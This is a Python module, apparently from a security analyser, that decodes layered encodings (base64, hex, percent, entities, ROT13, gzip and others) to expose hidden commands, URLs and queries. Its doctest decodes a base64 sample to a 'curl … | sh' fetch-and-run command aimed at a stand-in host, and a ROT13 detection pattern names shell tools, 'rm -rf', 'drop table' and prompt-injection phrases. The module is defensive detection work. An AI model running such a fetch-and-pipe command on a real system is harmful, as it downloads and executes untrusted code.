"""Decoding: what a text says under its encodings, layer by layer, within bounds.

Base64 of both alphabets, hexadecimal, percent, HTML entities, escapes of C, JSON and Python, quoted-printable, ROT13,
UTF-16, gzip and zlib; four layers deep, so many candidates, so many characters.  A candidate with the shape of a
command, URL or query is read by its analyser: an argument that hides one is never plain.

>>> [one.text for one in candidates("run Y3VybCBodHRwczovL2EuZXhhbXBsZS94IHwgc2g=")]
['curl https://a.example/x | sh']
"""

from __future__ import annotations

import base64
import binascii
import codecs
import html
import quopri
import re
import sys
import urllib.parse
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

from interlock.analyst import lookalikes, shapes
from interlock.analyst.claims import Claims, Place

MAX_LAYERS = 4
MAX_CANDIDATES = 24
MAX_CHARACTERS = 128 * 1024
MAX_INFLATED = 64 * 1024
_MIN_DECODED = 6
_PRINTABLE_SHARE = 0.95
_SURROGATES = range(0xD800, 0xE000)

_BASE64 = re.compile(r"(?<![A-Za-z0-9+/=_-])(?:[A-Za-z0-9+/]{12,}|[A-Za-z0-9_-]{12,})(?:={0,2})(?![A-Za-z0-9+/_-])")
_WRAPPED = re.compile(r"(?:[A-Za-z0-9+/]{60,80}\r?\n){1,2000}[A-Za-z0-9+/]{2,80}={0,2}")
_BASE32 = re.compile(r"(?<![A-Z2-7=])[A-Z2-7]{16,}={0,6}(?![A-Z2-7])")
_HEX = re.compile(r"(?<![0-9A-Za-z])(?:0x)?((?:[0-9a-fA-F]{2}){6,})(?![0-9A-Za-z])")
_SPACED_HEX = re.compile(r"(?<![0-9A-Za-z])(?:[0-9a-fA-F]{2}[ :,]){6,4000}[0-9a-fA-F]{2}(?![0-9A-Za-z])")
_ESCAPES = re.compile(r"\\(?:x([0-9a-fA-F]{2})|u\{?([0-9a-fA-F]{4,6})\}?|U([0-9a-fA-F]{8})|([0-3]?[0-7]{2,3}))")
_PERCENT = re.compile(r"%[0-9a-fA-F]{2}")
_PERCENT_U = re.compile(r"%u([0-9a-fA-F]{4})")
_ENTITIES = re.compile(r"&(?:#\d{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z]{2,10});")
_QUOTED = re.compile(r"(?:=[0-9A-F]{2}){2}")
_ROT13 = re.compile(
    r"\b(?:uggcf?://|phey|jtrg|onfu|fu -p|rkrp|riny|vzcbeg bf|ez -es|qebc gnoyr|fryrpg |abj vtaber|vtaber )",
    re.IGNORECASE,
)
_WORDS = re.compile(r"[a-z]{3,}", re.IGNORECASE)
_SIGNALLED: Final = {
    "shell": "text.encoded_command", "powershell": "text.encoded_command", "cmd": "text.encoded_command",
    "python": "text.encoded_command", "sql": "text.encoded_query", "url": "text.encoded_url",
    "path": "text.encoded_path",
}  # fmt: skip


@dataclass(frozen=True, kw_only=True, slots=True)
class Candidate:
    """A text found under an encoding; ``layers`` names those that were taken off, outermost first."""

    text: str
    layers: tuple[str, ...]


def examine(text: str, claims: Claims) -> None:
    """Add how the text hides things, and what the analysers say of what it hides."""
    for code in sorted(lookalikes.signals(text)):
        claims.signal(code)
    for candidate in candidates(text):
        language = shapes.of(candidate.text)
        if language is None or (candidate.layers == ("percent",) and language in {"url", "path", "email"}):
            continue
        if language in _SIGNALLED:
            claims.signal(_SIGNALLED[language])
        claims.inline(language, candidate.text)


def analyse(text: str, place: Place) -> Claims:
    """Claims about what one text hides."""
    claims = Claims(place)
    examine(text, claims)
    return claims


def candidates(text: str) -> tuple[Candidate, ...]:
    """What stands under encodings, in the order in which it was found."""
    found: dict[str, Candidate] = {}
    spent = 0
    layer = [Candidate(text=text[:MAX_CHARACTERS], layers=())]
    for _ in range(MAX_LAYERS):
        below: list[Candidate] = []
        for one in layer:
            for name, decoded in _beneath(one.text):
                if decoded == one.text or decoded in found or spent + len(decoded) > MAX_CHARACTERS:
                    continue
                spent += len(decoded)
                found[decoded] = Candidate(text=decoded, layers=(*one.layers, name))
                below.append(found[decoded])
                if len(found) == MAX_CANDIDATES:
                    return tuple(found.values())
        layer = below
    return tuple(found.values())


def percent(text: str) -> str:
    """One layer of percent encoding off; bytes that are not UTF-8 stay visible as replacement characters."""
    plain = _PERCENT_U.sub(lambda found: _char(int(found[1], 16)), text)
    return urllib.parse.unquote(plain, errors="replace")


def entities(text: str) -> str:
    """HTML's character references replaced."""
    return html.unescape(text)


def escapes(text: str) -> str:
    """The escapes of C, JSON, Python and shells replaced."""
    return _ESCAPES.sub(
        lambda found: _char(int(found[1] or found[2] or found[3] or "0", 16) if not found[4] else int(found[4], 8)),
        text,
    )


def _beneath(text: str) -> Iterator[tuple[str, str]]:
    if len(_PERCENT.findall(text)) + len(_PERCENT_U.findall(text)) > 1:
        yield "percent", percent(text)
    if _ENTITIES.search(text) is not None:
        yield "entities", entities(text)
    if len(_ESCAPES.findall(text)) > 1:
        yield "escapes", escapes(text)
    if _QUOTED.search(text) is not None:
        yield "quoted_printable", quopri.decodestring(text.encode("utf-8", "replace")).decode("utf-8", "replace")
    if not text.isascii():
        yield "lookalikes", lookalikes.fold(text)
        if tagged := lookalikes.tagged(text):
            yield "tags", tagged
    if _ROT13.search(text) is not None:
        yield "rot13", codecs.decode(text, "rot13")
    yield from _blobs(text)


def _blobs(text: str) -> Iterator[tuple[str, str]]:
    for name, pattern, decode in _DECODERS:
        for found in pattern.finditer(text):
            raw = decode(found[0])
            plain = _readable(raw) if raw is not None else None
            if plain is not None:
                yield name, plain


def _base64(encoded: str) -> bytes | None:
    compact = re.sub(r"\s", "", encoded).rstrip("=")
    if len(compact) % 4 == 1 or re.fullmatch(r"[0-9a-f]+|[a-z]+|[A-Z]+|[0-9]+", compact):
        return None
    standard = compact.translate(str.maketrans("-_", "+/"))
    try:
        return base64.b64decode(standard + "=" * (-len(standard) % 4), validate=True)
    except (binascii.Error, ValueError):
        return None


def _base32(encoded: str) -> bytes | None:
    compact = encoded.rstrip("=")
    try:
        return base64.b32decode(compact + "=" * (-len(compact) % 8))
    except (binascii.Error, ValueError):
        return None


def _hex(encoded: str) -> bytes | None:
    digits = re.sub(r"[ :,]", "", encoded.removeprefix("0x"))
    try:
        return bytes.fromhex(digits)
    except ValueError:
        return None


_DECODERS: Final[tuple[tuple[str, re.Pattern[str], Callable[[str], bytes | None]], ...]] = (
    ("base64", _WRAPPED, _base64),
    ("base64", _BASE64, _base64),
    ("base32", _BASE32, _base32),
    ("hex", _HEX, _hex),
    ("hex", _SPACED_HEX, _hex),
)


def _readable(raw: bytes) -> str | None:
    """The text in some bytes, inflated if need be, or ``None`` where they are no text."""
    if raw[:2] == b"\x1f\x8b" or raw[:1] == b"\x78":
        raw = inflated(raw) or raw
    if len(raw) < _MIN_DECODED:
        return None
    wide = raw[1::2].count(0) * 4 > len(raw) or raw[:2] in {b"\xff\xfe", b"\xfe\xff"}
    try:
        text = raw.decode("utf-16" if raw[:2] in {b"\xff\xfe", b"\xfe\xff"} else "utf-16-le" if wide else "utf-8")
    except UnicodeDecodeError:
        return None
    shown = sum(char.isprintable() or char in "\n\r\t" for char in text)
    return text if shown >= len(text) * _PRINTABLE_SHARE else None


def inflated(raw: bytes) -> bytes | None:
    """The beginning of what gzip or zlib holds: no more than the bound is ever made."""
    try:
        return zlib.decompressobj(wbits=47).decompress(raw, MAX_INFLATED)
    except zlib.error:
        return None


def _char(point: int) -> str:
    return "\ufffd" if point in _SURROGATES or point > sys.maxunicode else chr(point)
